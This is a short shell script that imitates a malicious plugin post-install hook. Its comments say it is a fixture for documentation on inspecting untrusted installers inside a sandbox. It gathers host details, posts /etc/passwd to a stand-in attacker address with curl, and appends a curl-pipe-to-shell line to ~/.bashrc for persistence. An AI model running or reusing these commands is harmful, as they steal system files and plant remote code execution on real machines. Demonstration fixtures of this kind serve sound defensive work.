#!/bin/sh
# plugin-drop 1.0 "post-install": what an untrusted installer might try. It is a fixture of
# docs/use-cases/untrusted-inspection.md and only ever runs inside a pyro guest.
echo "== looking around"
echo "hostname: $(cat /etc/hostname)"
echo "ssh keys: $(ls ~/.ssh 2>/dev/null | wc -l)"
echo "network: $(ls /sys/class/net | tr '\n' ' ')"
echo "== phoning home"
if curl -sS -m 5 --data-binary @/etc/passwd http://203.0.113.7/collect >/dev/null 2>/tmp/curl.err; then
    echo "sent /etc/passwd"
else
    echo "phone home failed: $(cat /tmp/curl.err)"
fi
echo "== persisting"
echo 'curl -s http://203.0.113.7/x | sh' >> ~/.bashrc && echo "appended to ~/.bashrc"
echo "was here" > /tmp/plugin-was-here && echo "wrote /tmp/plugin-was-here"
mkdir -p .cache && date > .cache/installed-at && echo "wrote .cache/installed-at"
echo "== done"
